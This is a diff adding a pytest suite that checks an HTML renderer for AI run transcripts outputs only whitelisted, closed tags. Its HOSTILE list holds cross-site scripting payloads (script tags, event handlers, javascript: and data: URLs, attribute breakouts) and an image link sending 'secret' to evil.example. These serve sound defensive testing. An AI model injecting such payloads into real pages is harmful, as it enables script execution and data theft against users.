@@ -1,0 +1,146 @@
+"""A run as HTML that every viewer shows and none executes."""
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from gemini_magic.html import render
+from gemini_magic.parts import Call, Code, Image, Note, Result, Source, Text, Thought
+from gemini_magic.request import Request
+from gemini_magic.runs import Run
+
+TAGS = set(
+    "a blockquote br code details div em h1 h2 h3 h4 h5 h6 hr img li ol p pre span strong summary "
+    "table tbody td th thead tr ul".split()
+)
+ATTRIBUTES = {"style", "open", "href", "rel", "target", "src", "alt", "title", "class", "start"}
+
+
+class Tags(HTMLParser):
+    def __init__(self, html):
+        super().__init__()
+        self.seen, self.open = [], []
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag, attrs):
+        self.seen.append((tag, dict(attrs)))
+        if tag not in ("img", "br", "hr"):
+            self.open.append(tag)
+
+    def handle_endtag(self, tag):
+        assert tag == self.open.pop()
+
+
+def run_of(*parts, state="done"):
+    run = Run(Request("add"), "gemini", "gemini-2.5-pro")
+    for part in parts:
+        run.add(part)
+    run.state = state
+    return run
+
+
+def steps_open(html):
+    """Whether each `<details>` is open, in order."""
+    return [found.startswith("<details open") for found in re.findall("<details[^>]*>", html)]
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "</code></pre></details><svg onload=alert(1)>",
+    "![x](https://evil.example/?q=secret)",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt&colon;alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:x) <javascript:alert(1)>",
+    '" onmouseover="alert(1)',
+    "[a]: javascript:alert(1)\n\n[a]",
+    "<style>body{display:none}</style>",
+    "\x1b]0;x\x07<iframe src=//evil.example>",
+]
+
+
+def assert_harmless(html):
+    tags = Tags(html)
+    assert tags.open == []
+    for tag, attributes in tags.seen:
+        assert tag in TAGS
+        assert set(attributes) <= ATTRIBUTES
+        assert attributes.get("href", "https://").startswith(("https://", "http://", "mailto:"))
+        assert attributes.get("src", "data:image/").startswith("data:image/")
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_hostile_text_stays_text_wherever_it_stands(text):
+    run = run_of(
+        Text(text),
+        Thought(text),
+        Note(text),
+        Code(text, language=text),
+        Result(text, text),
+        Image(text, b"x"),
+        Image("image/png" + text, b"x"),
+        Call(text, {text: text}, error=text),
+        Source(text, text),
+    )
+    run.error = run.model = text
+    assert_harmless(render(run))
+
+
+@given(st.text(alphabet="<>&\"'/[]()!:=`*_#-+ \njavscriptdhe", max_size=120))
+def test_any_text_leaves_only_known_tags_closed_in_order(text):
+    assert_harmless(render(run_of(Text(text), Code(text), Result(output=text))))
+
+
+def test_the_reader_sees_code_output_outcome_and_image():
+    html = render(run_of(Code("print(1 < 2)"), Result(output="True\n"), Image("image/png", b"png")))
+    assert "print(1 &lt; 2)" in html
+    assert "True" in html
+    assert ">ok<" in html
+    assert 'src="data:image/png;base64,cG5n"' in html
+
+
+def test_a_failed_attempt_is_folded_once_a_later_one_succeeds():
+    failed, mended = [Code("a"), Result("OUTCOME_FAILED")], [Code("b"), Result()]
+    assert steps_open(render(run_of(*failed))) == [True]
+    assert steps_open(render(run_of(*failed, *mended))) == [False, True]
+    assert steps_open(render(run_of(*mended, *failed))) == [True, True]
+
+
+def test_thoughts_are_folded():
+    assert steps_open(render(run_of(Thought("hm")))) == [False]
+
+
+def test_prose_is_markdown():
+    html = render(run_of(Text("**5117**\n\n| a |\n| - |\n| 1 |")))
+    assert "<strong>5117</strong>" in html
+    assert "<td>1</td>" in html
+
+
+def test_an_error_stays_on_the_screen():
+    run = run_of(Text("half"), state="failed")
+    run.error = "ConnectionLost: the line broke"
+    assert "ConnectionLost: the line broke" in render(run)
+
+
+def test_without_facts_the_html_is_the_same_for_the_same_answer():
+    assert render(run_of(Text("x")), facts=False) == render(run_of(Text("x")), facts=False)
+    assert "gemini-2.5-pro" in render(run_of(), facts=False)
+    assert not re.search(r"\d s\b", render(run_of(), facts=False))
+
+
+def test_the_offline_engine_says_what_it_is():
+    assert "offline lesson, code run here" in render(Run(Request("x"), "offline"))
+
+
+def test_there_is_no_script_and_no_style_sheet():
+    html = render(run_of(Text("x"), Code("y"), Result()))
+    assert not re.search("<script|<style|<link|javascript:| on[a-z]+=", html)
+
+
+def test_a_very_long_answer_is_shown_as_typed():
+    assert "**x** " * 20_000 in render(run_of(Text("**x** " * 20_000)))
